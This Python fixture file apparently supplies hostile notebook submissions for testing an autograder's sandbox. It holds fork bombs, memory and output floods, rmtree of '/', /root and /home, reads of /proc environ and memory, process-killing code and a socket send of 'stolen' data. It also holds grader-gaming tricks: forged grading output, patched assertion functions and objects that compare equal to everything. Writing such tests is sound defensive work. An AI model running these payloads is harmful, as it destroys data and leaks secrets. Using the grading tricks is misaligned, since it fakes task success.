"""Submissions that attack the grader: cells of a student's own before and after the rest, and answers in place of
right ones. `@name@` stands for a path or a number that the test knows. `lost` are the checks that it honestly fails.
"""

from __future__ import annotations

from dataclasses import dataclass, field

ALL = ("t-dice", "t-threshold", "t-loss", "t-model")


@dataclass(frozen=True)
class Attack:
    first: str = ""
    last: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    lost: tuple[str, ...] = ()


ATTACKS = {
    "right": Attack(),
    "blank": Attack(
        answers=dict.fromkeys(("dice", "threshold", "loss", "model"), 'raise NotImplementedError("your turn")'),
        lost=ALL,
    ),
    "surrogates": Attack("print('\\ud800')\n'\\udfff'", last="# \ud800"),
    "syntax": Attack(answers={"threshold": "threshold = = 3"}, lost=("t-threshold",)),
    # time
    "endless": Attack("while True: pass"),
    "endless_stubborn": Attack("""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True: x = 1
    except BaseException: pass
"""),
    "endless_in_a_call": Attack(answers={"dice": "def dice(a, b):\n    while True: pass"}, lost=("t-dice",)),
    "endless_stubborn_call": Attack(
        answers={
            "dice": """
def dice(a, b):
    while True:
        try:
            while True: x = 1
        except BaseException: pass
"""
        },
        lost=("t-dice",),
    ),
    # memory, processes, output
    "memory": Attack("hoard = [bytearray(2**26) for _ in range(10**4)]"),
    "memory_shared": Attack("""
import mmap
hoard = []
while True:
    hoard.append(mmap.mmap(-1, 2**26))
    hoard[-1].write(bytes(2**26))
"""),
    "memory_family": Attack("""
import os, time
for _ in range(8):
    if not os.fork():
        hoard = bytearray(b"x") * (300 * 2**20)
        time.sleep(60)
time.sleep(60)
"""),
    "files": Attack("""
with open("/tmp/large", "wb") as stream:
    while True:
        stream.write(bytes(2**24))
"""),
    "fork_bomb": Attack("""
import os
while True:
    try:
        os.fork()
    except OSError: pass
"""),
    "floods": Attack("for _ in range(10**4): print('x' * 10**6)"),
    "floods_in_a_call": Attack(
        answers={
            "dice": """
def dice(a, b):
    for _ in range(20): print("y" * 10**6)
    return 2 * (a & b).sum() / (a.sum() + b.sum())
"""
        }
    ),
    "huge_value": Attack(answers={"threshold": "threshold = 'x' * 2**29"}, lost=("t-threshold",)),
    "deep_value": Attack(
        answers={"threshold": "threshold = []\nfor _ in range(10**5): threshold = [threshold]"}, lost=("t-threshold",)
    ),
    # files and network
    "deletes": Attack("""
import os, shutil
for path in ("@victims@", "/root", "/home", os.path.expanduser("~"), "@course@", "@folder@", "/"):
    shutil.rmtree(path, ignore_errors=True)
"""),
    "writes": Attack("""
import os
for path in ("@victims@/gradebook.db", "@victims@/written", "@course@/assignments/written", "/etc/x", "@result@.json"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("mine")
    except OSError: pass
"""),
    "reads_tests": Attack("""
import gc, glob, os, re
found = []
for path in ("@source@", "@folder@", "/proc/1/mem", "/proc/1/environ", "/proc/self/environ", "/root", "/tmp"):
    try:
        found.append(open(path, "rb").read())
    except OSError as error: found.append(repr(error))
print(found, os.listdir("/"), glob.glob("/home/**", recursive=True)[:50], glob.glob("/proc/[0-9]*/environ"))
print([each for each in gc.get_objects() if type(each) is str and "quok" + "ka" in each])

def scan(pattern):
    hits = 0  # a class in the pattern keeps it from finding itself
    for line in open("/proc/self/maps"):
        fields = line.split()
        if "rw" in fields[1] and (len(fields) < 6 or fields[5] in ("[heap]", "[stack]")):
            low, high = (int(number, 16) for number in fields[0].split("-"))
            with open("/proc/self/mem", "rb") as memory:
                try:
                    memory.seek(low)
                    hits += len(re.findall(pattern, memory.read(high - low)))
                except (OSError, ValueError, OverflowError, MemoryError): pass
    return hits

here = "a-marker-" + str(2**40)
print("control", scan(b"a-marke[r]-1099511627776") > 0, "hits", scan(b"quokk[a]-47"), scan(b"the-lectu[r]er-08"))
print("others", scan(b"submitted/[a-z]*/9_to[y]/"))
"""),
    "network": Attack("""
import socket
tried = []
places = [(socket.AF_INET, ("127.0.0.1", @port@)), (socket.AF_UNIX, "@unix@"), (socket.AF_UNIX, "\\0@abstract@")]
for kind, address in places:
    try:
        with socket.socket(kind) as s:
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"stolen")
        tried.append("sent")
    except OSError as error: tried.append(error.strerror)
print(tried)
"""),
    # processes
    "kills_its_kernel": Attack("import os\nos._exit(0)"),
    "kills_everybody": Attack("""
import os, signal
for number in range(1, 32):
    try: os.kill(1, number)
    except OSError: pass
for pid in (1, os.getppid(), -1):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
os.killpg(0, signal.SIGKILL)
"""),
    "stops_everybody": Attack("""
import os, signal
for pid in (1, os.getppid()):
    try: os.kill(pid, signal.SIGSTOP)
    except OSError: pass
os.kill(os.getpid(), signal.SIGSTOP)
"""),
    "exits": Attack("import sys\nsys.exit(0)", "exit()"),
    "exits_in_a_call": Attack(answers={"dice": "def dice(a, b):\n    raise SystemExit"}, lost=("t-dice",)),
    "dies_in_a_call": Attack(answers={"dice": "import os\ndef dice(a, b):\n    os._exit(0)"}, lost=("t-dice",)),
    "dies_too_often": Attack(
        first="import os\ndef die(*_): os._exit(0)",
        answers={"dice": "dice = die", "threshold": "threshold = 0.95", "loss": "loss = die", "model": "Model = die"},
        lost=("t-dice", "t-loss", "t-model"),
    ),
    "closes_files": Attack("import os\nos.closerange(3, 1000)"),
    "closes_files_late": Attack(last="import os\nos.closerange(3, 1000)"),
    "daemon": Attack("""
import subprocess, threading
subprocess.Popen("setsid nohup @marker@ &", shell=True)
def spin():
    while True: pass
threading.Thread(target=spin, daemon=True).start()
"""),
    # lies
    "fake_marks": Attack(
        first="""
import json
from IPython.display import display
print(json.dumps({"status": "ok", "tests": {"t-threshold": {"points": 99, "max": 99}}}))
display({"application/x-grading": "eyJ2IjogdHJ1ZX0="}, raw=True)
""",
        answers={"threshold": "threshold = 0.5"},
        last="print('{\"value\": true}')",
        lost=("t-threshold",),
    ),
    "patches_builtins": Attack(
        answers={"threshold": "threshold = 0.5"},
        last="""
import builtins, numpy, numpy.testing, torch
builtins.AssertionError = ZeroDivisionError
builtins.abs = lambda x: 0
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.allclose = numpy.isclose = torch.isclose = torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda a, b: True
""",
        lost=("t-threshold", "t-model"),  # its own `score` uses the abs that it broke
    ),
    "patches_the_agent": Attack(
        last="""
import course_lib.assignments.agent as agent
agent.Agent.answer = lambda self, message: bytes(4)
""",
        lost=ALL,
    ),
    "answers_true": Attack(
        last="""
import course_lib.assignments.agent as agent, course_lib.assignments.wire as wire
agent.Agent.answer = lambda self, message: wire.encode({"value": True})
""",
        lost=ALL,
    ),
    "equals_everything": Attack(
        first="""
class Yes:
    __eq__ = __le__ = __lt__ = lambda a, b: True
    __hash__ = None
    __sub__ = __abs__ = __add__ = lambda *a: 0
    __float__ = lambda a: 0.95
""",
        answers={
            "threshold": "threshold = Yes()",
            "dice": "def dice(a, b): return Yes()",
            "loss": "def loss(x, y): return Yes()",
        },
        lost=("t-threshold", "t-dice", "t-loss"),
    ),
    "lying_float": Attack(
        first="""
class Near(float):
    __sub__ = __rsub__ = lambda a, b: 0.0
    __eq__ = lambda a, b: True
""",
        answers={"threshold": "threshold = Near(3)", "dice": "def dice(a, b): return Near(1)"},
        lost=("t-threshold", "t-dice"),
    ),
    "lying_array": Attack(
        first="""
import numpy as np
class Near(np.ndarray):
    __eq__ = lambda a, b: True
    __sub__ = lambda a, b: 0.0
    __array_ufunc__ = lambda *a, **k: True
""",
        answers={
            "threshold": "threshold = np.full((), 3.0).view(Near)",
            "dice": "def dice(a, b): return np.full(3, 7.0).view(Near)",
        },
        lost=("t-threshold", "t-dice"),
    ),
    "says_stop": Attack(answers={"dice": "def dice(a, b):\n    raise StopIteration"}, lost=("t-dice",)),
}
